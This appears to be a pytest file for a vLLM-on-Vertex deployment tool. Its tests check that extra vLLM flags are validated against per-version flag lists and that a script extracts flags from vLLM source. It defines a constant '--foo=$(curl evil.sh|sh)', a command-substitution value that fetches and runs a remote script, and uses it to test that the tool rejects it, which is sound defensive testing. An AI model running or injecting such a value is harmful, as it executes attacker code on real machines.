"""``extra_vllm_args`` are held to the flags of the serving image's vLLM version (issue 17), and those lists are
what ``scripts/vllm_flag_lists.py`` reads from vLLM's source."""

from __future__ import annotations

import json
import textwrap

import pytest
import yaml
from click.testing import CliRunner

from scripts import vllm_flag_lists
from tests.cli_support import TEXT
from vllm_vertex import vllm_known_flags
from vllm_vertex.cli import main
from vllm_vertex.config import ConfigError, from_preset, validate, warnings
from vllm_vertex.recipes import DEFAULT_IMAGE, IMAGE_ENGINES

GOOGLE = "us-docker.pkg.dev/vertex-ai/vertex-vision-model-garden-dockers/pytorch-vllm-serve"
ARM_092 = f"{GOOGLE}:20250717_0916_arm_RC01"  # vLLM 0.9.2, as Google's notebooks state
EVIL = "--foo=$(curl evil.sh|sh)"


def _cfg(*args: str, image: str = ARM_092, **fields):
    return from_preset("llama-3.1-8b-instruct", project="my-project", serving_image=image, extra_vllm_args=list(args),
                       **fields)  # fmt: skip


def _problem(*args: str, **fields) -> str:
    with pytest.raises(ConfigError) as info:
        validate(_cfg(*args, **fields))
    return dict(info.value.problems)["extra_vllm_args"]


def test_every_version_a_google_tag_names_has_a_flag_list():
    versions = {v for v in IMAGE_ENGINES.values() if v[:1].isdigit()}
    assert versions <= set(vllm_known_flags.known_flags()), versions - set(vllm_known_flags.known_flags())


def test_an_unknown_flag_is_refused_naming_the_flag_the_version_and_the_image():
    message = _problem(EVIL)
    assert "--foo is not a flag of vLLM 0.9.2" in message and "pytorch-vllm-serve:20250717_0916_arm_RC01" in message
    assert "container would refuse to start" in message


def test_the_closest_known_flag_is_named():
    assert "Did you mean --kv-cache-dtype?" in _problem("--kv-cahce-dtype=fp8")


@pytest.mark.parametrize("arg", ["--kv-cache-dtype=fp8", "--kv_cache_dtype=fp8", "--max-num-batched=8192",
                                 "--no-skip-tokenizer-init", "--speculative-config.method=ngram"])  # fmt: skip
def test_flags_of_that_version_pass(arg):
    """Spelled any way vLLM's parser takes: underscores, a unique prefix, a JSON flag's key."""
    assert validate(_cfg(arg))


def test_a_flag_of_a_newer_vllm_is_refused_on_the_older_image():
    assert "--max-num-batched-tokens" in vllm_known_flags.known_flags()["0.9.2"]
    assert "--kv-cache-memory-bytes" in vllm_known_flags.known_flags()["0.32.0"]
    assert "not a flag of vLLM 0.9.2" in _problem("--kv-cache-memory-bytes=1G")


def test_googles_own_flags_pass_on_googles_images_only():
    flag = "--host-prefix-kv-cache-utilization-target=0.5"
    assert validate(_cfg(flag, "--host-prefix-kv-cache-min-len=64"))
    custom = dict(image="vllm/vllm-openai:v0.9.2", allow_custom_serving_image=True)
    assert "--host-prefix-kv-cache-utilization-target is not a flag of vLLM 0.9.2" in _problem(flag, **custom)


@pytest.mark.parametrize("image", [DEFAULT_IMAGE, f"{GOOGLE}:20991231_0916_RC01", "docker.io/me/vllm:latest"])
def test_an_image_of_unknown_version_is_not_refused_but_warned_about(image):
    cfg = validate(_cfg(EVIL, "--seed=1", image=image, allow_custom_serving_image=True))
    assert any("extra_vllm_args could not be checked" in w for w in warnings(cfg))
    assert not any("could not be checked" in w for w in warnings(_cfg(image=image, allow_custom_serving_image=True)))


def test_the_evil_flag_is_refused_before_anything_is_created(tmp_path, monkeypatch):
    """``submit`` exits 2 naming the flag; no credentials were asked for and no socket was opened."""
    import socket

    opened: list = []
    monkeypatch.setattr(socket.socket, "connect", lambda sock, address, *a: opened.append(address))
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(tmp_path / "missing.json"))
    run = tmp_path / "run.yaml"
    run.write_text(yaml.safe_dump({**yaml.safe_load(open(TEXT)), "serving_image": ARM_092, "extra_vllm_args": [EVIL]}))
    result = CliRunner().invoke(main, ["submit", str(run)])
    assert result.exit_code == 2, result.output
    assert "--foo is not a flag of vLLM 0.9.2" in result.output and opened == []


# The extractor, on a small source tree that has each pattern vLLM's parsers use.
ARG_UTILS = '''
    import argparse
    from vllm.config import CacheConfig

    class EngineArgs:
        @staticmethod
        def add_cli_args(parser):
            cache_kwargs = get_kwargs(CacheConfig)
            group = parser.add_argument_group("cache")
            group.add_argument("--block-size", **cache_kwargs["block_size"])
            group.add_argument("--enable-prefix-caching", **{**cache_kwargs["enable_prefix_caching"], "default": None})
            group.add_argument("--quantization", "-q", type=str)
            group.add_argument("--disable-log-stats", action="store_true")
            group.add_argument("--enable-thing", action=argparse.BooleanOptionalAction)
            group.add_argument("--mode", **cache_kwargs["mode"])
            group.add_argument("--enable-chunked-prefill", **cache_kwargs["enable_chunked_prefill"])
            return parser

    class AsyncEngineArgs(EngineArgs):
        @staticmethod
        def add_cli_args(parser):
            parser = EngineArgs.add_cli_args(parser)
            parser.add_argument("--disable-log-requests", action="store_true")
            return parser
'''
CONFIG = '''
    class CacheConfig:
        block_size: int = 16
        enable_prefix_caching: Optional[bool] = None
        mode: bool | str | None = None
        enable_chunked_prefill: SkipValidation[bool] = None
        LIMIT: ClassVar[int] = 3
'''
CLI_ARGS = '''
    class BaseFrontendArgs:
        host: str | None = None
        allow_credentials: bool = False
        hidden: bool = False

        @classmethod
        def _customize_cli_kwargs(cls, kwargs):
            del kwargs["hidden"]
            kwargs["allow_credentials"]["action"] = "store_true"
            kwargs["host"]["flags"] = ["-H"]
            return kwargs

        @classmethod
        def add_cli_args(cls, parser):
            frontend_kwargs = get_kwargs(cls)
            frontend_kwargs = cls._customize_cli_kwargs(frontend_kwargs)
            for key, value in frontend_kwargs.items():
                extra = value.pop("flags", [])
                parser.add_argument(*extra, f"--{key.replace('_', '-')}", **value)
            return parser

    class FrontendArgs(BaseFrontendArgs):
        enable_auto_tool_choice: bool = False

    def make_arg_parser(parser):
        parser.add_argument("model_tag", nargs="?")
        parser = FrontendArgs.add_cli_args(parser)
        parser = AsyncEngineArgs.add_cli_args(parser)
        return parser
'''
API_SERVER = '''
    if __name__ == "__main__":
        parser = FlexibleArgumentParser()
        parser.add_argument("--log-level", type=str, default="debug")
        parser = AsyncEngineArgs.add_cli_args(parser)
'''
ARG_UTILS_GET_KWARGS = '''
    def get_kwargs(cls):
        if type_hints == {bool, str, type(None)}:
            pass
'''


def test_the_extractor_reads_each_pattern_of_vllms_parsers(tmp_path):
    files = {"vllm/engine/arg_utils.py": ARG_UTILS + ARG_UTILS_GET_KWARGS, "vllm/config/cache.py": CONFIG,
             "vllm/entrypoints/openai/cli_args.py": CLI_ARGS, "vllm/entrypoints/api_server.py": API_SERVER,
             "vllm/entrypoints/cli/serve.py": "class Chat:\n    def init(self, chat_parser):\n"
                                              "        chat_parser.add_argument('--url')\n"}  # fmt: skip
    for path, text in files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(textwrap.dedent(text))
    flags = vllm_flag_lists.flags_of(vllm_flag_lists.Source(tree=str(tmp_path)))
    assert flags == sorted({
        "-h", "--help", "--block-size", "--enable-prefix-caching", "--no-enable-prefix-caching", "--quantization",
        "-q", "--disable-log-stats", "--enable-thing", "--no-enable-thing", "--mode", "--disable-log-requests",
        "-H", "--host", "--allow-credentials", "--enable-auto-tool-choice", "--no-enable-auto-tool-choice",
        "--log-level", "--enable-chunked-prefill", "--no-enable-chunked-prefill",
    })  # fmt: skip


def test_the_data_file_is_what_the_script_renders():
    path = vllm_flag_lists.OUT
    data = json.loads(path.read_text())
    assert vllm_flag_lists.render(data["versions"]) == path.read_text()
    for version, entry in data["versions"].items():
        assert entry["flags"] == sorted(set(entry["flags"])) and "--model" in entry["flags"], version
        assert entry["source"].startswith(f"vLLM {version}"), entry["source"]
